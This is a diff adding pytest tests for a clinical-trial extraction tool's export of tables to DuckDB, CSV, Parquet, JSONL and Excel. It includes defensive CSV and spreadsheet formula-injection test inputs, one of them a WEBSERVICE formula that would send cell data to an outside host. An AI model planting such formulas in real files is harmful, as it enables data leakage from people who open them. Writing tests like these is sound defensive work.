@@ -1,0 +1,366 @@
+"""Files of tables: complete or absent, safe in a spreadsheet, and the same in every format; data
+frames of the same rows.
+"""
+
+import csv
+import json
+
+import duckdb
+import openpyxl
+import pytest
+
+from extractor.apps.export import (
+    Destination,
+    Format,
+    Threshold,
+    choose_tables,
+    excel,
+    export_run,
+    list_tables,
+    neutralise,
+)
+from extractor.apps.export.frames import frame_tables
+from extractor.errors import ArgumentError, StoreError
+from extractor.schemas import TrialExtraction
+from tests.commands import read_lines
+
+from .samples import SMALL
+
+
+@pytest.fixture
+def run(tmp_path):
+    folder = tmp_path / "a run [1]"
+    folder.mkdir()
+    lines = [
+        SMALL.model_copy(update={"record_id": f"NCT9000000{n}"}).model_dump_json()
+        for n in range(1, 4)
+    ]
+    (folder / "extractions.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
+    return folder
+
+
+def read_csv(path):
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def export(run, to, format_=None, tables=(), **options):
+    return export_run(run, Destination.choose(to, format_, **options), tables)
+
+
+def test_a_database_holds_all_tables_with_types_and_meanings(run, tmp_path):
+    counts = export(run, tmp_path / "it's.duckdb")
+    with duckdb.connect(str(tmp_path / "it's.duckdb"), read_only=True) as database:
+        for table in list_tables():
+            query = f"SELECT count(*) FROM {table.name}"
+            assert database.execute(query).fetchone() == (counts[table.name],)
+        columns = database.execute(
+            "SELECT column_name, data_type, comment FROM duckdb_columns() WHERE NOT internal"
+        ).fetchall()
+        views = database.execute(
+            "SELECT view_name FROM duckdb_views() WHERE NOT internal"
+        )
+        names = {name for (name,) in views.fetchall()}
+    kinds = {name: kind for name, kind, _ in columns}
+    assert [
+        kinds[name] for name in ("value_canonical", "criterion_index", "decides")
+    ] == [
+        "DOUBLE",
+        "BIGINT",
+        "BOOLEAN",
+    ]
+    assert ("masking", "VARCHAR", "NONE, SINGLE, DOUBLE, TRIPLE, QUADRUPLE.") in columns
+    assert names == {"bounds", "all_limits", "look_backs"}
+
+
+def test_a_database_of_some_tables_has_the_views_of_these(run, tmp_path):
+    to = tmp_path / "t.duckdb"
+    export(run, to, tables=choose_tables([], ["constraints"]))
+    with duckdb.connect(str(to), read_only=True) as database:
+        views = "SELECT view_name FROM duckdb_views() WHERE NOT internal"
+        assert database.execute(views).fetchall() == [("bounds",)]
+
+
+def write_cell(value):
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    return "" if value is None else str(value)
+
+
+def test_all_formats_and_frames_hold_the_same(run, tmp_path):
+    for format_ in (Format.CSV, Format.JSONL, Format.PARQUET):
+        export(run, tmp_path / format_, format_)
+    export(run, tmp_path / "t.xlsx")
+    frames = {
+        kind: frame_tables(read_extractions(run), to=kind)
+        for kind in ("pandas", "polars", "arrow")
+    }
+    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
+    assert book.sheetnames == [table.name for table in list_tables()]
+    for table in list_tables():
+        name = table.name
+        objects = read_lines(tmp_path / "jsonl" / f"{name}.jsonl")
+        rows = [tuple(one.values()) for one in objects]
+        parquet = duckdb.sql(f"FROM '{tmp_path}/parquet/{name}.parquet'").fetchall()
+        assert parquet == rows
+        cells = [
+            tuple(row.values()) for row in read_csv(tmp_path / "csv" / f"{name}.csv")
+        ]
+        assert [
+            tuple(map(neutralise, map(write_cell, row))) for row in rows
+        ] == cells or name in (
+            "constraints",
+            "values",
+        )
+        _, *sheet = book[name].iter_rows(values_only=True)
+        assert [tuple(row) for row in sheet] == [
+            tuple(cell if cell != "" else None for cell in row) for row in rows
+        ]
+        assert frames["polars"][name].to_dicts() == objects
+        assert frames["arrow"][name].to_pylist() == objects
+        frame = frames["pandas"][name]
+        assert (
+            frame.astype(object).where(frame.notna(), None).to_dict("records")
+            == objects
+        )
+
+
+def read_extractions(run):
+    return [
+        TrialExtraction.model_validate(one)
+        for one in read_lines(run / "extractions.jsonl")
+    ]
+
+
+def test_a_folder_describes_its_tables_and_is_always_the_same(run, tmp_path):
+    for name in ("first", "second"):
+        export(run, tmp_path / name, Format.CSV)
+    for path in (tmp_path / "first").iterdir():
+        assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes()
+    described = json.loads((tmp_path / "first" / "tables.json").read_text("utf-8"))
+    assert described["constraints"]["keys"] == [
+        "record_id",
+        "criterion_index",
+        "constraint_index",
+    ]
+    # a number stays one
+    assert read_csv(tmp_path / "first" / "constraints.csv")[0]["value"] == "-2.5"
+    assert read_csv(tmp_path / "first" / "criteria.csv")[0]["quote"] == "'=HYPERLINK(1)"
+
+
+def test_a_file_holds_one_table(run, tmp_path):
+    export(run, tmp_path / "limits.csv", tables=choose_tables([], ["constraints"]))
+    assert len(read_csv(tmp_path / "limits.csv")) == 6
+    with pytest.raises(ValueError, match="holds one table"):
+        export(run, tmp_path / "all.csv")
+    assert not (tmp_path / "all.csv").exists()
+
+
+FORMULAS = (
+    "=1+1",
+    "+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "'=1",
+    '"=1',
+    "＝1",
+)
+WITHIN = ("a;=1", "a\n-1", "a,@x", "a\t+1")
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN])
+def test_no_program_reads_a_text_of_csv_as_a_formula(text):
+    safe = neutralise(text)
+    assert safe.replace("'", "") == text.replace("'", "")
+    for separator in (";", "\t"):
+        lines = safe.splitlines() or [""]
+        for row in csv.reader(lines, delimiter=separator, quoting=csv.QUOTE_NONE):
+            for cell in row:
+                begin = cell.strip(' "\t\r\n')[:1]
+                assert begin not in tuple("=+-@＝＋－＠"), (separator, cell)
+
+
+@pytest.mark.parametrize(
+    "text", ["18-65 years", "> 3 x ULN", "a = b", "day -7, -5", "", "="]
+)
+def test_other_texts_do_not_change(text):
+    assert neutralise(text) == text
+
+
+ARRAYS = [
+    '{=WEBSERVICE("http://a.b/"&A1)}',
+    "{=1+1}",
+    "internal:A1",
+    "http://a.b",
+    "12",
+    "nan",
+]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN, *ARRAYS])
+def test_a_text_in_a_workbook_stays_as_it_is(text, tmp_path, monkeypatch):
+    def refuse(*_):
+        raise AssertionError("it guesses")
+
+    # Earlier versions take some texts for formulas, whatever their options say.
+    monkeypatch.setattr("xlsxwriter.worksheet.Worksheet.write", refuse)
+    table = choose_tables([], ["absences"])[0]
+    line = json.dumps({column.name: text for column in table.columns})
+    (tmp_path / "rows").write_text(f"{line}\n", "utf-8")
+
+    excel.write_workbook(tmp_path / "a.xlsx", [table], {table.name: tmp_path / "rows"})
+
+    cell = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]["A2"]
+    assert cell.value.replace("_x000D_", "\r") == text
+    assert (cell.data_type, cell.hyperlink) == ("s", None)
+
+
+def test_a_table_that_no_sheet_holds_is_refused(run, tmp_path, monkeypatch):
+    monkeypatch.setattr(excel, "_MOST_ROWS", 6)
+    for names, remedy in (
+        (["constraints"], "name a file that ends with .csv"),
+        (["constraints", "regimens"], "the other tables with --tables"),
+    ):
+        with pytest.raises(StoreError, match=f"constraints: has more.*{remedy}"):
+            export(run, tmp_path / "trials.xlsx", tables=choose_tables([], names))
+    monkeypatch.setattr(excel, "_LONGEST_TEXT", 5)
+    with pytest.raises(
+        StoreError, match="row 1, record_id: has more than 5 characters"
+    ):
+        export(run, tmp_path / "trials.xlsx", tables=choose_tables([], ["criteria"]))
+    assert not (tmp_path / "trials.xlsx").exists()
+
+
+REPLACED = pytest.mark.parametrize(
+    ("name", "format_"), [("t.duckdb", None), ("t", Format.CSV), ("t", Format.PARQUET)]
+)
+
+
+@REPLACED
+def test_an_earlier_export_is_replaced_only_on_demand(run, tmp_path, name, format_):
+    to = tmp_path / name
+    export(run, to, format_)
+    with pytest.raises(ArgumentError, match="--force"):
+        export(run, to, format_)
+    assert export(run, to, format_, force=True)["records"] == 3
+
+
+@REPLACED
+def test_a_failure_keeps_an_earlier_export(run, tmp_path, name, format_):
+    to = tmp_path / name
+    export(run, to, format_)
+    files = [to] if to.is_file() else sorted(to.iterdir())
+    contents = [path.read_bytes() for path in files]
+    listed = sorted(path.name for path in tmp_path.iterdir())
+    with (run / "extractions.jsonl").open("a") as file:
+        file.write('{"record_id": "torn')
+
+    with pytest.raises(StoreError, match="line 4: is broken"):
+        export(run, to, format_, force=True)
+
+    assert [path.read_bytes() for path in files] == contents
+    assert sorted(path.name for path in tmp_path.iterdir()) == listed
+
+
+def test_a_folder_of_other_files_is_never_replaced(run, tmp_path):
+    other = tmp_path / "mine"
+    other.mkdir()
+    (other / "thesis.csv").write_text("precious")
+    with pytest.raises(StoreError, match="holds other files"):
+        export(run, other, Format.CSV, force=True)
+    assert (other / "thesis.csv").read_text() == "precious"
+
+
+@pytest.mark.parametrize(
+    ("name", "format_", "message"),
+    [
+        ("t", None, "say --format"),
+        ("t", Format.DUCKDB, "one file"),
+        ("t.csv", Format.PARQUET, "named as csv"),
+    ],
+)
+def test_a_path_and_a_format_must_fit(tmp_path, name, format_, message):
+    with pytest.raises(ValueError, match=message):
+        Destination.choose(tmp_path / name, format_)
+
+
+def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
+    with pytest.raises(StoreError, match="holds no results"):
+        export(tmp_path, tmp_path / "t.duckdb")
+    gold = tmp_path / "gold"
+    gold.mkdir()
+    for name in ("B", "A"):
+        annotated = SMALL.model_copy(update={"record_id": name}).model_dump(mode="json")
+        (gold / f"{name}.json").write_text(json.dumps(annotated, indent=1), "utf-8")
+    export(gold, tmp_path / "t", Format.CSV)
+    rows = read_csv(tmp_path / "t" / "records.csv")
+    assert [row["record_id"] for row in rows] == ["A", "B"]
+    (gold / "C.json").write_text("{", "utf-8")
+    with pytest.raises(StoreError, match=r"C\.json: is broken; correct it"):
+        export(gold, tmp_path / "t", Format.CSV, force=True)
+
+
+@pytest.mark.parametrize(
+    ("line", "where"),
+    [
+        ([], "the whole"),
+        ({"eligibility": {}}, "record_id"),
+        ({"record_id": "A", "eligibility": {"colour": 1}}, "eligibility.colour"),
+        ({"record_id": "A", "eligibility": {}, "endpoints": [3]}, "endpoints.0"),
+    ],
+)
+def test_results_of_other_versions_are_refused(tmp_path, line, where):
+    path = tmp_path / "extractions.jsonl"
+    path.write_text(json.dumps(line) + "\n", "utf-8")
+    message = rf"line 1: is not an extraction .*\({where}"
+    with pytest.raises(StoreError, match=message):
+        export_run(path, Destination(tmp_path / "t", Format.JSONL))
+    assert not (tmp_path / "t").exists()
+
+
+ALT = {"quantity": "ALT", "comparator": "<=", "value": 3, "unit": "x ULN"}
+CRITERION = {"kind": "inclusion", "section": "eligibility", "quote": "f"}
+
+
+def prove(field, confidence):
+    place = {"section": "eligibility", "start": 0, "end": 1, "quote": "f"}
+    found = {"origin": "rule", "support": "parsed", "confidence": confidence}
+    return {"field": field, **place, **found}
+
+
+def test_a_limit_of_some_stays_one_when_its_doubtful_sibling_is_left_out(tmp_path):
+    ill = ALT | {"value": 5, "condition": "with liver metastases"}
+    other = {"quantity": "bilirubin", "comparator": "<=", "value": 2, "unit": "mg/dL"}
+    fields = ("quote", "constraints[0]", "constraints[1]", "constraints[2]")
+    evidence = [prove(field, 0.9) for field in fields]
+    evidence.append(prove("constraints[1].condition", 0.5))
+    criteria = [
+        # left out, so that positions move
+        CRITERION | {"evidence": [prove("quote", 0.5)]},
+        CRITERION | {"constraints": [ALT, ill, other], "evidence": evidence},
+        CRITERION | {"constraints": [ALT], "group": "g", "evidence": evidence[:2]},
+    ]
+    people = {
+        "criteria": criteria,
+        "groups": [{"id": "g", "rule": "any", "lead_in": "f"}],
+        "evidence": [prove("groups[0]", 0.5)],
+    }
+    trial = TrialExtraction.model_validate({"record_id": "A", "eligibility": people})
+    (tmp_path / "extractions.jsonl").write_text(trial.model_dump_json(), "utf-8")
+
+    to = Destination(tmp_path / "tables", Format.JSONL)
+    export_run(tmp_path, to, threshold=Threshold(0.8))
+
+    left = read_lines(to.path / "constraints.jsonl")
+    names = ("criterion_index", "quantity", "admits", "admits_some")
+    assert [tuple(row[name] for name in names) for row in left] == [
+        (0, "ALT", None, "<="),
+        (0, "bilirubin", "<=", None),
+        (1, "ALT", None, "<="),
+    ]
+    decides = [row["decides"] for row in read_lines(to.path / "criteria.jsonl")]
+    assert decides == [True, False]
